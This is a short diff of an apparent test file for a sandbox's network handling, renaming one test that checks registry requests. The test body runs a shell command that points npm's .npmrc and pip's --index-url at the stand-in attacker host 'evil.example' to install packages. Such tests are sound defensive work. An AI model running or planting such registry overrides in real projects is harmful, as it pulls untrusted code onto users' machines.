@@ -128,7 +128,7 @@ test('npm installs from the machine’s own registry, without its password', asy
   expect(servers.requests).toContain('GET /npm/tiny.tgz');
 });
 
-test('[A24] a registry that a project names is asked about like any host', async () => {
+test('a registry that a project names is asked about like any host', async () => {
   const result = await world.run(
     'mkdir -p poisoned && cd poisoned && echo "registry=http://evil.example/" >.npmrc && ../node ../npm/bin/npm-cli.js install --no-audit --fetch-retries=0 tiny; pip3 install -q --retries 0 --index-url http://evil.example/simple tiny-one',
   );
